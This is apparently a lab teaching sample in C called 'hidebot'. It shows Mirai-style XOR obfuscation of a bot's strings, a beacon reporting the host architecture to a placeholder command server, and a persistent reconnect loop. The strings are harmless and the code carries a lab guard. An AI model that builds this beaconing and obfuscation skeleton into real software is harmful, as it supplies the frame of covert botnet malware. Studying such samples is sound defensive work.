/*
 * hidebot: keeps its words encoded in the file, as Mirai's kin do, and has
 * them in plain only while a command needs them. It says "hide ARCH", then
 * reads lines.
 *
 *   TABLE   decodes its words, keeps them, and answers "table"
 *   WIPE    overwrites them, and answers "wiped"
 *
 * The words are harmless texts. It refuses to run outside the lab (common.h).
 */
#include <sys/socket.h>
#include <sys/utsname.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "actions.h"
#include "common.h"

#define SERVER_NAME "c2.hidebot.example"
#define SERVER_FALLBACK "198.18.13.44"
#define SERVER_PORT 6667
#define LINE_SIZE 128
#define KEY 0x22

/* "scan no more\0listening tun0", each byte ^ KEY. */
static const unsigned char encoded[] = { 0x51, 0x41, 0x43, 0x4c, 0x02, 0x4c,
	0x4d, 0x02, 0x4f, 0x4d, 0x50, 0x47, 0x22, 0x4e, 0x4b, 0x51, 0x56, 0x47,
	0x4c, 0x4b, 0x4c, 0x45, 0x02, 0x56, 0x57, 0x4c, 0x12, 0x22 };
static char *table;
static int serverSocket = -1;

NOINLINE void
tableUnlock(void)
{
	if (table == NULL)
		table = malloc(sizeof encoded);
	for (size_t i = 0; table != NULL && i < sizeof encoded; i++)
		table[i] = (char)(encoded[i] ^ KEY);
}

NOINLINE void
tableLock(void)
{
	if (table != NULL)
		explicit_bzero(table, sizeof encoded);
}

NOINLINE int
recvLine(int fd, char *buf, int size)
{
	int n = 0;
	char c;

	while (n < size - 1 && waitReadable(fd, 60) && recv(fd, &c, 1, 0) == 1) {
		if (c == '\n') {
			buf[n] = '\0';
			return n;
		}
		buf[n++] = c;
	}
	return -1;
}

NOINLINE void
processCmd(const char *line)
{
	if (strcmp(line, "TABLE") == 0) {
		tableUnlock();
		sendAll(serverSocket, "table\n", 6);
	} else if (strcmp(line, "WIPE") == 0) {
		tableLock();
		sendAll(serverSocket, "wiped\n", 6);
	}
}

static void
serve(void)
{
	char line[LINE_SIZE];
	struct utsname u;

	uname(&u);
	int n = snprintf(line, sizeof line, "hide %s\n", u.machine);
	sendAll(serverSocket, line, (size_t)n);
	while (recvLine(serverSocket, line, sizeof line) != -1)
		processCmd(line);
}

static void
bot(void)
{
	for (;;) {
		serverSocket = connectServer(SERVER_NAME, SERVER_FALLBACK,
		    SERVER_PORT);
		if (serverSocket != -1)
			serve();
		hangUp(&serverSocket);
		sleep(2);
	}
}

int
main(void)
{
	labGuard("hidebot");
	keep(bot);
}
